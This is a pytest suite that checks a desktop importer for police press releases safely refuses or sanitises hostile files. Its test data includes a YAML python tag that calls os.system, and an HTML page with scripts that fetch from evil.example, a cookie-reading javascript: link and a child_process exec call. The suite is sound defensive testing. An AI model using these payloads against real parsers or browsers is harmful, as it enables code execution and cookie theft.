"""Promise 3, hostile files: each gets one clear message naming the file, the batch goes on, and the
store is unchanged for that file. Nothing in a release runs, and nothing is fetched."""

from __future__ import annotations

import os
import socket
import threading
import time

import pytest

from desktop.cli import main
from desktop.ingest import import_paths

GOOD = "Police made 12 arrests during Operation Good on Jan 05, 2021.\n"

#: name, bytes, words the failure message must contain
REFUSED = [
    ("empty.txt", b"   \n\n\t\n", "empty"),
    ("zero.txt", b"", "empty"),
    ("binary.txt", bytes(range(256)) * 40, "binary"),
    ("image.md", b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + os.urandom(200), "PNG"),
    ("list-front.md", b"---\n- one\n- two\n---\nPolice made 3 arrests.\n", "key: value"),
    ("scalar-front.md", b"---\njust a sentence\n---\nPolice made 3 arrests.\n", "key: value"),
    ("bad-utf16.txt", b"\xff\xfe" + b"\x00\xd8" + b"a\x00", "UTF-16"),
]


def _folder(tmp_path, name, data):
    folder = tmp_path / "in"
    folder.mkdir(exist_ok=True)
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    target = folder / name
    target.write_bytes(data)
    return folder, target


def _failed_once(report, target) -> str:
    lines = [line for line in report.lines() if str(target) in line]
    assert len(lines) == 1, report.lines()
    assert lines[0].startswith("failed: ")
    return lines[0]


def _only_good_stored(store):
    assert store.count() == 1
    names = [r["name"] for r in store.page()]
    assert names == ["good.txt"]
    assert [e["new"].endswith("good.txt") for e in store.history()] == [True]


@pytest.mark.parametrize("name,data,words", REFUSED, ids=[r[0] for r in REFUSED])
def test_promise3_hostile_file_refused_naming_it_batch_continues(store, tmp_path, name, data, words):
    folder, target = _folder(tmp_path, name, data)
    report = import_paths(store, [folder])
    line = _failed_once(report, target)
    assert words.lower() in line.lower()
    assert "Traceback" not in line and "unexpected error" not in line
    _only_good_stored(store)


def test_promise3_hostile_yaml_python_tag_never_executes(store, tmp_path):
    marker = tmp_path / "pwned"
    data = (f"---\ntitle: !!python/object/apply:os.system ['touch {marker}']\n---\n"
            "Police made 3 arrests.\n").encode()
    folder, target = _folder(tmp_path, "tagged.md", data)
    report = import_paths(store, [folder])
    line = _failed_once(report, target)
    assert "tag" in line
    assert not marker.exists()
    _only_good_stored(store)


def test_promise3_hostile_50mb_text_refused_quickly(store, tmp_path):
    folder, target = _folder(tmp_path, "huge.txt", b"")
    with open(target, "wb") as fh:
        fh.write(b"Police made 12 arrests. " * (50 * 1024 * 1024 // 24 + 1))
    assert target.stat().st_size >= 50 * 1024 * 1024
    started = time.monotonic()
    report = import_paths(store, [folder])
    assert time.monotonic() - started < 5
    assert "MB" in _failed_once(report, target)
    _only_good_stored(store)


def test_promise3_hostile_named_pipe_does_not_hang_the_batch(store, tmp_path):
    folder, target = _folder(tmp_path, "good.txt", GOOD.encode())
    pipe = folder / "pipe.txt"
    os.mkfifo(pipe)
    result = {}
    worker = threading.Thread(target=lambda: result.update(report=import_paths(store, [folder])), daemon=True)
    worker.start()
    worker.join(3)
    if worker.is_alive():  # unblock the reader so the thread can end, then fail
        fd = os.open(pipe, os.O_WRONLY | os.O_NONBLOCK)
        os.close(fd)
        worker.join(5)
        pytest.fail("a named pipe called pipe.txt blocked the import")
    _failed_once(result["report"], pipe)
    _only_good_stored(store)


def test_promise3_hostile_symlink_loops_are_reported_not_followed(store, tmp_path):
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    os.symlink(folder / "b.txt", folder / "a.txt")
    os.symlink(folder / "a.txt", folder / "b.txt")
    os.symlink(folder, folder / "sub" / "up")  # a folder loop
    started = time.monotonic()
    report = import_paths(store, [folder, folder / "a.txt"])
    assert time.monotonic() - started < 5
    for bad in (folder / "a.txt", folder / "b.txt"):
        assert any(str(bad) in path and "loop" in why for path, why in report.failed), report.failed
    _only_good_stored(store)


def test_promise3_hostile_unreadable_file(store, tmp_path, monkeypatch):
    folder, target = _folder(tmp_path, "secret.txt", GOOD.replace("12", "13").encode())
    os.chmod(target, 0)
    if os.geteuid() == 0:  # root reads anything: make this one file fail to open as it would for a user
        real_open = type(target).open

        def refusing_open(self, *args, **kwargs):
            if self.name == "secret.txt":
                raise PermissionError(13, "Permission denied", str(self))
            return real_open(self, *args, **kwargs)
        monkeypatch.setattr(type(target), "open", refusing_open)
    report = import_paths(store, [folder])
    assert "permission" in _failed_once(report, target).lower()
    _only_good_stored(store)


def _no_network(monkeypatch):
    calls = []

    def refuse(*args, **kwargs):
        calls.append(args)
        raise AssertionError("the importer tried to use the network")
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return calls


def test_promise3_hostile_html_runs_nothing_and_fetches_nothing(store, tmp_path, monkeypatch):
    calls = _no_network(monkeypatch)
    marker = tmp_path / "ran"
    html = f"""<html><head><title>Arrests</title><script>fetch('http://evil.example/x')</script>
    <meta http-equiv="refresh" content="0;url=http://evil.example/"></head><body onload="alert(1)">
    <p>Police made <b>12</b> arrests.</p><img src="http://evil.example/track.png" onerror="x()">
    <a href="javascript:alert(document.cookie)">click</a><iframe src="http://evil.example/"></iframe>
    <script>require('child_process').exec('touch {marker}')</script><style>p{{background:url(http://e/)}}</style>
    <object data="http://evil.example/a.swf"></object><svg><script>alert(2)</script></svg></body></html>"""
    folder, target = _folder(tmp_path, "page.html", html.encode())
    report = import_paths(store, [folder])
    assert report.failed == [] and len(report.imported) == 2
    doc = next(store.document(i) for i in report.imported if store.document(i)["name"] == "page.html")
    body = doc["body"]
    assert "Police made 12 arrests." in body
    for bad in ("<", "script", "http", "javascript", "alert", "evil", "onload", "background"):
        assert bad not in body.lower(), bad
    assert doc["title"] == "Arrests"
    assert calls == [] and not marker.exists()


ACCEPTED = [
    ("utf16.txt", "\ufeffPolice made 12 arrests in Zürich.\r\n".encode("utf-16-le"), "Zürich", "UTF-16"),
    ("latin1.txt", "Police made 12 arrests in Zürich, café.".encode("cp1252") + b"\x81", "Zürich",
     "Windows-1252"),
    ("mixed.txt", b"Line one 12 arrests.\r\nLine two.\rLine three.\nEnd.", "Line two.\nLine three.", None),
    ("Rel\u00e9ase \"quoted\" 'single' \u041f\u043e\u043b\u0438\u0446\u0438\u044f \u8b66\u5bdf.md",
     "Police made 12 arrests.".encode(), "12 arrests", None),
]


@pytest.mark.parametrize("name,data,expect,note", ACCEPTED, ids=["utf16-bom", "invalid-utf8", "mixed-eol", "odd-name"])
def test_promise3_hostile_but_readable_files_import_with_a_note_naming_them(store, tmp_path, name, data, expect,
                                                                            note):
    folder, target = _folder(tmp_path, name, data)
    report = import_paths(store, [folder])
    assert report.failed == [] and len(report.imported) == 2
    doc = next(store.document(i) for i in report.imported if store.document(i)["name"] == name)
    assert expect in doc["body"] and "\r" not in doc["body"] and "\ufeff" not in doc["body"]
    if note:
        notes = [line for line in report.lines() if str(target) in line]
        assert len(notes) == 1 and note in notes[0], report.lines()


def test_promise3_hostile_5000_files_in_one_folder(store, tmp_path):
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(5000):
        (folder / f"r{i:04d}.txt").write_text(f"Release {i}: police made {i} arrests.\n", encoding="utf-8")
    (folder / "r2500.txt").write_bytes(b"")  # one bad file in the middle
    report = import_paths(store, [folder])
    assert len(report.imported) == 4999
    assert report.failed == [(str(folder / "r2500.txt"), "the file is empty")]
    assert store.count() == 4999


def test_promise3_hostile_folder_through_the_cli_names_each_failure(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    for name, data, _ in REFUSED:
        (folder / name).write_bytes(data)
    code = main(["import", str(folder), "--db", str(tmp_path / "b.sqlite")])
    out, err = capsys.readouterr()
    assert code == 0 and "Traceback" not in out + err
    failed = [line for line in err.splitlines() if line.startswith("failed: ")]  # failures on standard error
    assert len(failed) == len(REFUSED) and "failed: " not in out
    for name, _, _ in REFUSED:
        assert sum(str(folder / name) in line for line in failed) == 1, (name, failed)
    assert "imported 1, duplicates 0, failed %d" % len(REFUSED) in out
